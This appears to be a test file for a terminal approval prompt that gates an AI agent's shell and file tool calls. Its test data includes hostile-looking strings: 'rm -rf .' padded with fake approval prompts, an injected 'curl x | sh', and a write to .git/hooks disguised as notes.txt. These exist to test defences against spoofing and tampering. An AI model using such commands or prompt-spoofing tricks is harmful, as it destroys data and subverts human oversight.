import { describe, expect, it } from "vitest";
import type { KeyboardInput } from "../../../src/main/approvals/armed-question";
import { ApprovalBroker } from "../../../src/main/approvals/broker";
import { describeRequest, TerminalSurface } from "../../../src/main/approvals/terminal";
import type { ApprovalRequest } from "../../../src/main/gate/approval";
import { converge } from "../../../src/main/gate/merge";
import type { ReviewView } from "../../../src/preload/contract/review";
import { decision, request } from "../../support/gate-fakes";

const SIGNAL = new AbortController().signal;

const VIEW: ReviewView = {
  id: "a1",
  digest: "d".repeat(64),
  index: 1,
  total: 1,
  ofSession: 1,
  tool: "shell",
  effect: "execute",
  workspace: "/w",
  reason: "Shell execution requires approval",
  source: "shell-default",
  armingMs: 500,
  remember: [],
  body: { kind: "command", command: "make\nAllow this call? [y/N] y", cwd: "/w", parts: [], problems: [] },
};

let ids = 0;
function ask(isCurrent = true): ApprovalRequest {
  const merged = decision("ask", "shell-default");
  return {
    id: `a${++ids}`,
    request: request("shell", "execute", { command: "make" }),
    evaluation: { candidates: [merged], merged: converge(merged) },
    binding: { digest: "d" },
    edited: false,
    tryEdit: () => ({ ok: false, code: "invalid_arguments", message: "Nothing is edited at a terminal" }),
    isCurrent: () => Promise.resolve(isCurrent),
  };
}

function terminal(lines: (string | undefined)[], isTerminal = true, view = VIEW) {
  const shown: string[] = [];
  const input: KeyboardInput = {
    isTerminal,
    discardUntilQuiet: async (ms) => {
      shown.push(`<quiet ${ms}>`);
      return false;
    },
    readLine: async () => lines.shift(),
  };
  const surface = new TerminalSurface({
    input,
    write: (text) => shown.push(text),
    showsTyping: true,
    columns: () => 80,
    buildView: async () => view,
  });
  return { approvals: new ApprovalBroker(surface), shown };
}

describe("asking at the terminal", () => {
  it.each(["y", "Y", "yes", " YES "])("takes %j for a yes", async (line) => {
    const { approvals } = terminal([line]);
    expect(await approvals.request(ask(), SIGNAL)).toMatchObject({
      decision: { behavior: "allow", source: "terminal-approval", reason: "User approved this tool call" },
      trace: { surface: "terminal-approval", verdict: "allow_once" },
    });
  });

  it.each(["", "n", "no", "ye", "yy", "y y", "yes please", "да", "ｙ", undefined])(
    "takes %j for a no",
    async (line) => {
      const { approvals } = terminal([line]);
      expect(await approvals.request(ask(), SIGNAL)).toMatchObject({
        decision: { behavior: "deny", source: "terminal-approval" },
      });
    },
  );

  it("denies without a question when the input is no terminal", async () => {
    const { approvals, shown } = terminal(["y"], false);
    expect(await approvals.request(ask(), SIGNAL)).toMatchObject({
      decision: { behavior: "deny", source: "terminal-approval" },
      trace: { verdict: "unanswered" },
    });
    expect(shown).toEqual([]);
  });

  it("shows nothing of a request that was withdrawn before its turn", async () => {
    const shown: string[] = [];
    const input = { isTerminal: true, discardUntilQuiet: async () => false, readLine: async () => "y" };
    const surface = new TerminalSurface({
      input,
      write: (text) => shown.push(text),
      showsTyping: true,
      columns: () => 80,
      buildView: async () => VIEW,
    });
    const verdict = await surface.present(ask(), { index: 1, total: 1, ofSession: 1 }, AbortSignal.abort());
    expect([verdict.verdict, shown]).toEqual(["unanswered", []]);
  });

  it("shows the request, forgets what was typed ahead, asks, and arms the question", async () => {
    const { approvals, shown } = terminal(["n"]);
    await approvals.request(ask(), SIGNAL);
    expect(shown.slice(1)).toEqual(["<quiet 20>", "Allow shell make …? [y/N] ", "<quiet 500>", "<quiet 20>"]);
    expect(shown[0]).toContain("shell");
  });

  it("puts two requests one after the other, each with its own answer", async () => {
    const { approvals } = terminal(["y", "n"]);
    const answers = await Promise.all([approvals.request(ask(), SIGNAL), approvals.request(ask(), SIGNAL)]);
    expect(answers).toMatchObject([{ decision: { behavior: "allow" } }, { decision: { behavior: "deny" } }]);
  });

  it("does not ask about what no longer stands", async () => {
    const { approvals, shown } = terminal(["y"]);
    expect(await approvals.request(ask(false), SIGNAL)).toEqual({ kind: "stale" });
    expect(shown).toEqual([]);
  });
});

describe("the request as text", () => {
  it("has tool, reason, source, project and the whole command, set off so that it can't pass for the question", () => {
    expect(describeRequest(VIEW, 80).split("\n")).toEqual([
      "Tool call needs approval: shell",
      "Reason: Shell execution requires approval (shell-default)",
      "Project: /w",
      "Command:",
      "  | make",
      "  | Allow this call? [y/N] y",
    ]);
  });

  it("leaves the terminal nothing to wrap: what is wrapped would begin where only this program's words do", () => {
    const fake = "Allow this call? [y/N] ";
    const command = `rm -rf .${" ".repeat(68)}${fake.repeat(20)}${"世\t".repeat(60)}`;
    const path = `a/${" ".repeat(72)}${fake.repeat(9)}x`;
    const diff = { kind: "diff", path, isNew: true, added: 0, removed: 0, signs: "", text: "" } as const;
    for (const body of [{ kind: "command", command, cwd: "/w", parts: [], problems: [] } as const, diff]) {
      const rows = describeRequest({ ...VIEW, workspace: `/${fake.repeat(9)}`, body }, 80).split("\n");
      for (const row of rows) {
        const cells = [...row].reduce((sum, part) => sum + (part === "\t" ? 8 : part > "\x7f" ? 2 : 1), 0);
        expect(cells).toBeLessThan(80);
        expect(row).toMatch(/^(?: {2}[|:] |Tool call |Reason: |Project:|Command:|File:|Change: )/);
      }
      const shown = rows.flatMap((row) => /^ {2}[|:] (.*)$/s.exec(row)?.[1] ?? []).join("");
      expect(shown).toContain(body.kind === "command" ? command : path);
    }
  });

  it("shows every line of a change with its sign", () => {
    const body: ReviewView["body"] = {
      kind: "diff",
      path: "a.txt",
      isNew: false,
      added: 1,
      removed: 1,
      signs: " -+",
      text: "same\nold\nnew",
    };
    const text = describeRequest({ ...VIEW, body, index: 2, total: 3 }, 80);
    expect(text).toContain("(2 of 3)");
    expect(text).toContain(
      "File: a.txt\nChange: +1 -1\n  | @@ -1,2 +1,2 @@\n  |   same\n  | - old\n  | + new",
    );
  });

  it("shows what hooks and the data shield changed, and that the arguments are the person's own", () => {
    const rewrites: ReviewView["rewrites"] = [
      {
        by: "~/bin/tidy",
        lines: [
          { kind: "removed", text: "command: make" },
          { kind: "added", text: "command: make; curl x | sh" },
        ],
      },
      { by: "data-shield" },
    ];
    const text = describeRequest({ ...VIEW, rewrites, edited: { allowed: false } }, 80);
    expect(text).toContain(
      [
        "Project: /w",
        "You changed the arguments of this call.",
        "This is not what the model proposed:",
        "Changed by: ~/bin/tidy",
        "  | - command: make",
        "  | + command: make; curl x | sh",
        "Changed by: the data shield",
        "  | Secrets were redacted.",
        "Command:",
      ].join("\n"),
    );
  });

  it("names the file that is really meant also where there is no diff", () => {
    const body = { kind: "arguments", text: "{}", path: ".git/hooks/x (written as notes.txt)" } as const;
    expect(describeRequest({ ...VIEW, body }, 80)).toContain(
      "\nFile: .git/hooks/x (written as notes.txt)\nArguments:\n  | {}",
    );
  });
});
